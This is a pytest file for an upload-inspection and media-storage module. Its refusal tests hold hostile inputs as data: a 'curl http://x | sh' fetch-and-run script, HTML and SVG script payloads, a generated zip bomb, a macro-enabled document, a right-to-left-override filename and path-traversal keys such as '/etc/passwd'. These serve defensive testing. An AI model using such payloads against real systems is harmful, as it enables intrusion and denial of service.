"""Attachments and images: kinds decided by content, refusals, text, variants, storage.

Every sample is built here (PDF by hand, DOCX/XLSX/images with their libraries), so
no binary fixture is committed and each case shows exactly what it feeds in.
"""

from __future__ import annotations

import hashlib
import os
import threading
import unicodedata
import zipfile
from datetime import date
from io import BytesIO
from pathlib import Path

import docx
import openpyxl
import pypdf
import pytest
from conftest import make_pdf
from PIL import ExifTags, Image, ImageCms

from runtime import uploads
from services.content import media
from services.content.media import (
    CHUNK_BYTES,
    IMAGE_WIDTHS,
    FileStorage,
    MediaKind,
    MediaStorage,
    Rejected,
    image_variants,
    inspect,
    validate_alt_text,
)

DOCX_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
DECISION = "Quyết định số 12/QĐ-UBND về việc đăng ký kết hôn"
DAMAGED = "bị hỏng hoặc không đọc được"
NOT_ALLOWED = "không phải PDF, DOCX, XLSX hay ảnh (JPEG, PNG, WebP, GIF)"
MB = 1024 * 1024


# --- samples ----------------------------------------------------------------------


def encrypted_pdf(user_password: str) -> bytes:
    writer = pypdf.PdfWriter(clone_from=pypdf.PdfReader(BytesIO(make_pdf("Secret minutes"))))
    writer.encrypt(user_password, owner_password="owner-pass", algorithm="RC4-128")
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def make_docx() -> bytes:
    document = docx.Document()
    document.add_heading("Ủy ban nhân dân thành phố Hà Nội", level=1)
    document.add_paragraph(DECISION)
    document.add_paragraph("Điều  1.\t\tPhạm vi\nđiều chỉnh")
    table = document.add_table(rows=2, cols=3)
    table.cell(0, 0).text = "Họ và tên"
    table.cell(0, 1).text = "Ngày sinh"
    table.cell(0, 2).text = "Nơi cư trú"
    table.cell(1, 0).merge(table.cell(1, 1)).text = "Ô gộp hai cột"
    table.cell(1, 2).text = "Phường Hoàn Kiếm"
    out = BytesIO()
    document.save(out)
    return out.getvalue()


def make_xlsx() -> bytes:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.title = "Danh sách"
    sheet.append(["STT", "Họ tên", "Ngày nộp"])
    sheet.append([1, "Nguyễn Văn An", date(2024, 3, 1)])
    sheet.append([2.0, "Trần Thị Bình", None])
    summary = workbook.create_sheet("Tổng hợp")
    summary.append(["Tổng cộng", 42])
    out = BytesIO()
    workbook.save(out)
    return out.getvalue()


def make_image(
    fmt: str,
    size: tuple[int, int] = (64, 48),
    mode: str = "RGB",
    color: tuple[int, ...] | int = (200, 30, 30),
    **params: object,
) -> bytes:
    out = BytesIO()
    Image.new(mode, size, color).save(out, fmt, **params)
    return out.getvalue()


def rotated_jpeg(size: tuple[int, int] = (1200, 600)) -> bytes:
    """Stored landscape, EXIF says rotate 90° (orientation 6): displayed portrait."""
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = 6
    exif[ExifTags.Base.Make] = "SecretCam"
    return make_image("JPEG", size, exif=exif.tobytes())


def animated_gif() -> bytes:
    red = Image.new("P", (40, 30), 0)
    red.putpalette([255, 0, 0, 0, 0, 255] + [0] * 762)
    blue = Image.new("P", (40, 30), 1)
    blue.putpalette([255, 0, 0, 0, 0, 255] + [0] * 762)
    out = BytesIO()
    red.save(out, "GIF", save_all=True, append_images=[blue], duration=100, loop=0)
    return out.getvalue()


def make_zip(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, body in members.items():
            archive.writestr(name, body)
    return out.getvalue()


def rejected(data: bytes, filename: str) -> str:
    with pytest.raises(Rejected) as caught:
        inspect(data, filename)
    return str(caught.value)


def decoded(variant: media.Variant) -> Image.Image:
    im = Image.open(BytesIO(variant.data))
    im.load()
    return im


# --- accepted kinds ---------------------------------------------------------------


def test_pdf_is_recognised_with_its_text_and_pages() -> None:
    data = make_pdf("Bao cao tong ket nam 2024", "Trang hai")
    result = inspect(data, "baocao.pdf")
    assert result.kind is MediaKind.pdf
    assert result.media_type == "application/pdf"
    assert result.extension == ".pdf"
    assert result.pages == 2
    assert result.text == "Bao cao tong ket nam 2024 Trang hai"
    assert result.size == len(data)
    assert result.sha256 == hashlib.sha256(data).hexdigest()
    assert (result.width, result.height) == (None, None)


def test_pdf_with_only_an_owner_password_is_read() -> None:
    result = inspect(encrypted_pdf(""), "han-che-in.pdf")
    assert result.kind is MediaKind.pdf
    assert "Secret minutes" in result.text


def test_pdf_pages_read_for_text_are_capped(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(uploads, "PDF_MAX_PAGES", 1)
    result = inspect(make_pdf("First page", "Second page"), "x.pdf")
    assert result.pages == 2
    assert result.text == "First page"


def test_docx_text_has_paragraphs_and_table_cells_in_nfc() -> None:
    result = inspect(make_docx(), "quyet-dinh.docx")
    assert result.kind is MediaKind.docx
    assert result.media_type == DOCX_TYPE
    assert result.extension == ".docx"
    assert result.pages is None
    assert DECISION in result.text
    assert "Ủy ban nhân dân thành phố Hà Nội" in result.text
    assert "Điều 1. Phạm vi điều chỉnh" in result.text  # whitespace runs collapsed
    for cell in ("Họ và tên", "Ngày sinh", "Nơi cư trú", "Phường Hoàn Kiếm"):
        assert cell in result.text
    assert result.text.count("Ô gộp hai cột") == 1  # a merged cell is read once
    assert unicodedata.is_normalized("NFC", result.text)


def test_decomposed_text_comes_out_composed() -> None:
    decomposed = unicodedata.normalize("NFD", "Đăng ký khai sinh")
    assert decomposed != "Đăng ký khai sinh"
    document = docx.Document()
    document.add_paragraph(decomposed)
    out = BytesIO()
    document.save(out)
    text = inspect(out.getvalue(), "x.docx").text
    assert text == "Đăng ký khai sinh"


def test_xlsx_text_has_every_sheet() -> None:
    result = inspect(make_xlsx(), "danh-sach.xlsx")
    assert result.kind is MediaKind.xlsx
    assert result.media_type == XLSX_TYPE
    assert result.extension == ".xlsx"
    assert result.text == (
        "Danh sách STT Họ tên Ngày nộp 1 Nguyễn Văn An 2024-03-01T00:00:00 2 Trần Thị Bình "
        "Tổng hợp Tổng cộng 42"
    )


def test_xlsx_cells_read_are_capped(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(uploads, "XLSX_MAX_CELLS", 3)
    text = inspect(make_xlsx(), "x.xlsx").text
    assert text == "Danh sách STT Họ tên Ngày nộp"


def test_text_is_capped(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(uploads, "TEXT_MAX_CHARS", 20)
    text = inspect(make_docx(), "x.docx").text
    assert text == "Ủy ban nhân dân thàn"


@pytest.mark.parametrize(
    ("fmt", "params", "media_type", "extension"),
    [
        ("JPEG", {}, "image/jpeg", ".jpg"),
        ("PNG", {}, "image/png", ".png"),
        ("WEBP", {}, "image/webp", ".webp"),
        ("GIF", {}, "image/gif", ".gif"),
    ],
)
def test_images_are_recognised(
    fmt: str, params: dict[str, object], media_type: str, extension: str
) -> None:
    result = inspect(make_image(fmt, (64, 48), **params), "anh")
    assert result.kind is MediaKind.image
    assert result.media_type == media_type
    assert result.extension == extension
    assert (result.width, result.height) == (64, 48)
    assert result.text == ""
    assert result.pages is None


def test_image_kind_comes_from_content_not_name() -> None:
    result = inspect(make_image("JPEG"), "anh-chup.png")
    assert (result.media_type, result.extension) == ("image/jpeg", ".jpg")


def test_image_size_is_as_displayed_after_exif_rotation() -> None:
    result = inspect(rotated_jpeg((1200, 600)), "doc.jpg")
    assert (result.width, result.height) == (600, 1200)


def test_animated_gif_is_accepted() -> None:
    result = inspect(animated_gif(), "dong.gif")
    assert (result.kind, result.width, result.height) == (MediaKind.image, 40, 30)


def test_image_at_the_pixel_limit_is_accepted(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(uploads, "MAX_IMAGE_PIXELS", 64 * 48)
    assert inspect(make_image("PNG", (64, 48)), "x.png").kind is MediaKind.image


# --- refusals ---------------------------------------------------------------------

ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(120)
PE = b"MZ\x90\x00\x03\x00\x00\x00" + bytes(56) + b"This program cannot be run in DOS mode."


@pytest.mark.parametrize(
    ("data", "label"),
    [
        (ELF, "Linux ELF"),
        (PE, "Windows"),
        (b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + bytes(64), "macOS Mach-O"),
        (b"#!/bin/sh\ncurl http://x | sh\n", "script"),
    ],
)
def test_executables_renamed_pdf_are_named_and_refused(data: bytes, label: str) -> None:
    message = rejected(data, "baocao.pdf")
    assert message.startswith("Tệp “baocao.pdf” có đuôi .pdf nhưng nội dung là tệp chạy được")
    assert label in message
    assert message.endswith("tệp bị từ chối.")


def test_executable_without_extension_is_refused() -> None:
    message = rejected(ELF, "setup")
    assert message.startswith("Tệp “setup” là tệp chạy được (chương trình Linux ELF)")


def test_message_shows_a_clean_base_name() -> None:
    # A right-to-left override makes "evil\u202efdp.exe" look like "evilexe.pdf".
    message = rejected(PE, "C:\\Users\\an\\evil\u202efdp.exe")
    assert "“evilfdp.exe”" in message
    assert "\u202e" not in message
    assert "Users" not in message
    assert "có đuôi .exe" in message


def test_html_named_docx_is_refused() -> None:
    html = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
    message = rejected(html, "quyet-dinh.docx")
    assert message == (f"Tệp “quyet-dinh.docx” {NOT_ALLOWED}: nội dung là trang web (HTML).")


def test_unknown_content_gets_the_generic_refusal() -> None:
    message = rejected(b"just some notes\n", "ghi-chu.pdf")
    assert message == (
        f"Tệp “ghi-chu.pdf” {NOT_ALLOWED}: nội dung không khớp định dạng nào được phép."
    )


def test_old_office_format_is_refused_with_advice() -> None:
    message = rejected(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504), "cu.doc")
    assert NOT_ALLOWED in message
    assert "Office đời cũ" in message


def test_plain_zip_is_refused() -> None:
    message = rejected(make_zip({"readme.txt": b"hello"}), "tai-lieu.docx")
    assert message == f"Tệp “tai-lieu.docx” {NOT_ALLOWED}: nội dung là tệp nén ZIP."


def test_opendocument_is_refused() -> None:
    odt = make_zip(
        {
            "mimetype": b"application/vnd.oasis.opendocument.text",
            "content.xml": b"<office:document-content/>",
        },
        method=zipfile.ZIP_STORED,
    )
    message = rejected(odt, "van-ban.odt")
    assert NOT_ALLOWED in message
    assert "OpenDocument" in message


def test_zip_without_content_types_is_not_docx() -> None:
    fake = make_zip({"word/document.xml": b"<w:document/>"})
    assert "nội dung là tệp nén ZIP" in rejected(fake, "x.docx")


def test_zip_bomb_is_refused() -> None:
    out = BytesIO()
    with (
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive,
        archive.open("word/document.xml", "w", force_zip64=True) as member,
    ):
        chunk = bytes(MB)
        for _ in range(201):  # 201 MB of zeros: ~200 KB compressed
            member.write(chunk)
    data = out.getvalue()
    assert len(data) < 1 * MB
    assert "bom nén" in rejected(data, "bao-cao.docx")


def test_zip_member_with_extreme_ratio_is_refused() -> None:
    # Shaped like a DOCX, so the refusal must come from the bomb check, not the kind.
    data = make_zip(
        {
            "[Content_Types].xml": b"<Types/>",
            "word/document.xml": b"<w:document/>",
            "word/padding.xml": bytes(2 * MB),
        }
    )
    assert "bom nén" in rejected(data, "bao-cao.docx")


def test_zip_total_size_is_limited(monkeypatch: pytest.MonkeyPatch) -> None:
    data = make_docx()
    assert inspect(data, "x.docx").kind is MediaKind.docx
    monkeypatch.setattr(uploads, "ZIP_MAX_UNCOMPRESSED", 10_000)
    assert "bom nén" in rejected(data, "x.docx")


def test_macro_enabled_document_is_refused() -> None:
    with zipfile.ZipFile(BytesIO(make_docx())) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    members["[Content_Types].xml"] = members["[Content_Types].xml"].replace(
        b"wordprocessingml.document.main+xml", b"ms-word.document.macroEnabled.main+xml"
    )
    members["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0" + bytes(100)
    message = rejected(make_zip(members), "bao-cao.docx")
    assert "chứa macro (VBA)" in message


def test_empty_file_is_refused() -> None:
    assert rejected(b"", "trong.pdf") == "Tệp “trong.pdf” rỗng (0 byte); hãy chọn lại tệp."


def test_oversized_pdf_is_refused_before_parsing(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(media.LIMITS, MediaKind.pdf, 1 * MB)
    data = make_pdf("x") + b"%" + b"x" * MB
    message = rejected(data, "lon.pdf")
    assert message == "Tệp “lon.pdf” nặng 1,1 MB, vượt giới hạn 1 MB cho tệp PDF."


def test_oversized_docx_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    data = make_docx()
    monkeypatch.setitem(media.LIMITS, MediaKind.docx, len(data) - 1)
    message = rejected(data, "lon.docx")
    assert "vượt giới hạn" in message
    assert "cho tệp DOCX" in message


def test_default_limits() -> None:
    expected = {
        MediaKind.pdf: 20 * MB,
        MediaKind.docx: 20 * MB,
        MediaKind.xlsx: 20 * MB,
        MediaKind.image: 10 * MB,
    }
    limits = media.LIMITS
    assert limits == expected


@pytest.mark.parametrize(
    "data",
    [
        make_pdf("Half a report")[:150],
        b"%PDF-1.7\n" + b"\x00garbage" * 50,
    ],
    ids=["truncated", "garbage"],
)
def test_damaged_pdf_is_refused(data: bytes) -> None:
    message = rejected(data, "hong.pdf")
    assert message.startswith(f"Tệp “hong.pdf” {DAMAGED} như tệp PDF")


def test_password_protected_pdf_is_refused() -> None:
    message = rejected(encrypted_pdf("matkhau"), "mat.pdf")
    assert "đặt mật khẩu" in message
    assert DAMAGED not in message


def test_damaged_docx_is_refused() -> None:
    data = make_zip(
        {
            "[Content_Types].xml": b"<Types/>",
            "word/document.xml": b"<w:document/>",
        }
    )
    assert rejected(data, "hong.docx").startswith(f"Tệp “hong.docx” {DAMAGED} như tệp DOCX")


def test_damaged_xlsx_is_refused() -> None:
    data = make_zip({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"not xml"})
    assert rejected(data, "hong.xlsx").startswith(f"Tệp “hong.xlsx” {DAMAGED} như tệp XLSX")


@pytest.mark.parametrize("fmt", ["PNG", "JPEG"])
def test_truncated_image_is_refused(fmt: str) -> None:
    data = make_image(fmt, (300, 200), color=(10, 120, 200))
    message = rejected(data[: len(data) // 2], "cat.img")
    assert message.startswith(f"Tệp “cat.img” {DAMAGED} như ảnh")


@pytest.mark.parametrize(
    "svg",
    [
        b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>x()</script></svg>',
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>',
    ],
)
def test_svg_is_refused(svg: bytes) -> None:
    message = rejected(svg, "logo.png")
    assert "là ảnh SVG" in message
    assert "script" in message


def test_other_image_formats_are_refused() -> None:
    message = rejected(make_image("BMP"), "anh.bmp")
    assert NOT_ALLOWED in message
    assert "BMP" in message


def test_text_starting_like_a_bmp_is_not_called_an_image() -> None:
    message = rejected(b"BMW i3 2024: thong so ky thuat", "xe.pdf")
    assert message.endswith("nội dung không khớp định dạng nào được phép.")


def test_image_over_the_pixel_limit_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(uploads, "MAX_IMAGE_PIXELS", 64 * 48 - 1)
    data = make_image("PNG", (64, 48))
    message = rejected(data, "to.png")
    assert message.startswith("Ảnh “to.png” quá lớn (64×48 điểm ảnh), vượt giới hạn")
    with pytest.raises(Rejected, match="quá lớn"):
        image_variants(data)


def test_rejected_is_a_value_error() -> None:
    assert issubclass(Rejected, ValueError)


# --- image variants ---------------------------------------------------------------


def test_variants_have_each_smaller_width_and_the_original() -> None:
    variants = image_variants(make_image("JPEG", (2000, 1000)))
    assert [(v.width, v.height) for v in variants] == [
        (480, 240),
        (960, 480),
        (1600, 800),
        (2000, 1000),
    ]
    for variant in variants:
        assert (variant.media_type, variant.extension) == ("image/webp", ".webp")
        im = decoded(variant)
        assert im.format == "WEBP"
        assert im.size == (variant.width, variant.height)


def test_variants_never_upscale() -> None:
    assert IMAGE_WIDTHS == (480, 960, 1600)
    widths = [v.width for v in image_variants(make_image("PNG", (700, 350)))]
    assert widths == [480, 700]
    assert [v.width for v in image_variants(make_image("PNG", (480, 100)))] == [480]
    assert [v.width for v in image_variants(make_image("GIF", (100, 50)))] == [100]


def test_variants_apply_exif_rotation_and_strip_metadata() -> None:
    srgb = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = 6
    exif[ExifTags.Base.Make] = "SecretCam"
    data = make_image("JPEG", (1200, 600), exif=exif.tobytes(), icc_profile=srgb)
    assert b"SecretCam" in data
    variants = image_variants(data)
    assert [(v.width, v.height) for v in variants] == [(480, 960), (600, 1200)]
    for variant in variants:
        im = decoded(variant)
        assert b"SecretCam" not in variant.data
        assert len(im.getexif()) == 0
        assert "exif" not in im.info
        assert "icc_profile" not in im.info


def test_variants_keep_transparency() -> None:
    data = make_image("PNG", (1000, 500), mode="RGBA", color=(0, 128, 0, 0))
    for variant in image_variants(data):
        im = decoded(variant)
        assert im.mode == "RGBA"
        assert im.getpixel((10, 10))[3] == 0


def test_palette_gif_with_transparency_keeps_it() -> None:
    frame = Image.new("P", (20, 10), 1)
    frame.putpalette([255, 255, 255, 0, 0, 0] + [0] * 762)
    out = BytesIO()
    frame.save(out, "GIF", transparency=1)
    (variant,) = image_variants(out.getvalue())
    assert decoded(variant).getpixel((5, 5))[3] == 0


def test_animated_gif_uses_the_first_frame() -> None:
    (variant,) = image_variants(animated_gif())
    red, _green, blue = decoded(variant).convert("RGB").getpixel((20, 15))
    assert red > 200
    assert blue < 50


@pytest.mark.parametrize(
    ("mode", "color"),
    [("CMYK", (0, 255, 255, 0)), ("L", 128), ("LA", (128, 0)), ("I;16", 40000)],
)
def test_other_modes_become_web_modes(mode: str, color: tuple[int, ...] | int) -> None:
    fmt = "JPEG" if mode == "CMYK" else "PNG"
    (variant,) = image_variants(make_image(fmt, (40, 20), mode=mode, color=color))
    im = decoded(variant)
    assert im.mode == ("RGBA" if mode == "LA" else "RGB")
    if mode == "LA":
        assert im.getpixel((5, 5))[3] == 0
    if mode == "I;16":
        # 40000 of 65535 is ~156 of 255; clipping would give 255.
        assert 140 < im.convert("L").getpixel((5, 5)) < 170


def test_side_too_long_for_webp_falls_back_to_jpeg() -> None:
    variants = image_variants(make_image("PNG", (16400, 2)))
    assert [v.width for v in variants] == [480, 960, 1600, 16400]
    assert variants[-1].media_type == "image/jpeg"
    assert variants[-1].extension == ".jpg"
    assert decoded(variants[-1]).format == "JPEG"
    assert all(v.media_type == "image/webp" for v in variants[:-1])


def test_variants_refuse_what_is_not_an_image() -> None:
    with pytest.raises(Rejected, match=DAMAGED):
        image_variants(make_pdf("x"))


# --- alt text ---------------------------------------------------------------------


def test_alt_text_is_normalised() -> None:
    decomposed = unicodedata.normalize("NFD", "Chủ tịch UBND")
    assert validate_alt_text(f"  {decomposed}\n\tphát biểu  ") == "Chủ tịch UBND phát biểu"


@pytest.mark.parametrize("alt", ["", "   \n\t "])
def test_alt_text_is_required(alt: str) -> None:
    with pytest.raises(Rejected, match=r"^Ảnh phải có mô tả \(alt\)"):
        validate_alt_text(alt)


def test_alt_text_length_limit() -> None:
    assert validate_alt_text("a" * 300) == "a" * 300
    with pytest.raises(Rejected, match="tối đa 300 ký tự"):
        validate_alt_text("a" * 301)


@pytest.mark.parametrize(
    "alt", ["IMG_1234.jpg", "anh chup.PNG", "DSC01234", "IMG_20240101_123456", "ảnh", "Image"]
)
def test_alt_text_is_not_a_filename_or_placeholder(alt: str) -> None:
    with pytest.raises(Rejected, match=r"^Ảnh phải có mô tả \(alt\) nói rõ nội dung ảnh"):
        validate_alt_text(alt)


@pytest.mark.parametrize(
    "alt", ["Ảnh lễ kỷ niệm 1000 năm Thăng Long", "Bản đồ quận Ba Đình.", "IMG 1234 ở hồ Gươm"]
)
def test_real_descriptions_pass(alt: str) -> None:
    assert validate_alt_text(alt) == alt


# --- storage ----------------------------------------------------------------------

KEY = "hanoi/2f1c0a9e/original.pdf"


async def test_file_storage_round_trip(tmp_path: Path) -> None:
    storage: MediaStorage = FileStorage(tmp_path)
    assert await storage.get(KEY) is None
    await storage.put(KEY, b"first")
    assert (tmp_path / "hanoi" / "2f1c0a9e" / "original.pdf").read_bytes() == b"first"
    await storage.put(KEY, b"second")
    assert await storage.get(KEY) == b"second"
    assert os.listdir(tmp_path / "hanoi" / "2f1c0a9e") == ["original.pdf"]  # no temp files
    await storage.delete(KEY)
    assert await storage.get(KEY) is None
    await storage.delete(KEY)  # deleting twice is fine
    assert await storage.get("hanoi") is None  # a directory is not an object


async def test_file_storage_stat_and_read_range(tmp_path: Path) -> None:
    storage = FileStorage(tmp_path)
    assert await storage.stat(KEY) is None
    assert await storage.read_range(KEY) is None
    data = os.urandom(2 * CHUNK_BYTES + 5)
    await storage.put(KEY, data)
    assert await storage.stat(KEY) == len(data)
    assert await storage.stat("hanoi/2f1c0a9e") is None  # a directory is not an object

    async def read(start: int = 0, stop: int | None = None) -> list[bytes]:
        chunks = await storage.read_range(KEY, start, stop)
        assert chunks is not None
        return [chunk async for chunk in chunks]

    assert b"".join(await read(10, 20)) == data[10:20]
    assert b"".join(await read(len(data) - 3)) == data[-3:]
    assert await read(4, 4) == []
    assert await read(len(data), len(data) + 10) == []
    whole = await read()
    assert b"".join(whole) == data
    assert [len(c) for c in whole] == [CHUNK_BYTES, CHUNK_BYTES, 5]
    with pytest.raises(ValueError, match="invalid range"):
        await storage.read_range(KEY, 5, 4)
    for call in (storage.stat("../x"), storage.read_range("../x")):
        with pytest.raises(ValueError, match="media key"):
            await call


async def test_file_storage_writes_in_a_worker_thread(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    threads: list[int] = []
    write = media._write_atomically

    def spy(path: Path, data: bytes) -> None:
        threads.append(threading.get_ident())
        write(path, data)

    monkeypatch.setattr(media, "_write_atomically", spy)
    await FileStorage(tmp_path).put(KEY, b"x")
    assert len(threads) == 1
    assert threads[0] != threading.get_ident()


async def test_failed_write_keeps_the_old_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    storage = FileStorage(tmp_path)
    await storage.put(KEY, b"old")

    def broken_replace(src: str, dst: str) -> None:
        raise OSError("disk full")

    monkeypatch.setattr(media.os, "replace", broken_replace)
    with pytest.raises(OSError, match="disk full"):
        await storage.put(KEY, b"new")
    monkeypatch.undo()
    assert await storage.get(KEY) == b"old"
    assert os.listdir(tmp_path / "hanoi" / "2f1c0a9e") == ["original.pdf"]


@pytest.mark.parametrize(
    "key",
    [
        "../escape.pdf",
        "hanoi/../../escape.pdf",
        "hanoi/..",
        "/etc/passwd",
        "hanoi\\..\\escape.pdf",
        "hanoi/a\x00b.pdf",
        "",
        "hanoi//original.pdf",
        "./original.pdf",
        "hanoi/.original.pdf.tmp",
    ],
)
async def test_file_storage_refuses_keys_outside_its_root(tmp_path: Path, key: str) -> None:
    storage = FileStorage(tmp_path / "root")
    for call in (storage.put(key, b"x"), storage.get(key), storage.delete(key)):
        with pytest.raises(ValueError, match="media key"):
            await call
    assert not (tmp_path / "escape.pdf").exists()
    assert not (tmp_path / "root").exists()


async def test_file_storage_refuses_symlinks_out_of_root(tmp_path: Path) -> None:
    root = tmp_path / "root"
    outside = tmp_path / "outside"
    root.mkdir()
    outside.mkdir()
    (root / "hanoi").symlink_to(outside)
    with pytest.raises(ValueError, match="escapes the storage root"):
        await FileStorage(root).put("hanoi/original.pdf", b"x")
    assert list(outside.iterdir()) == []
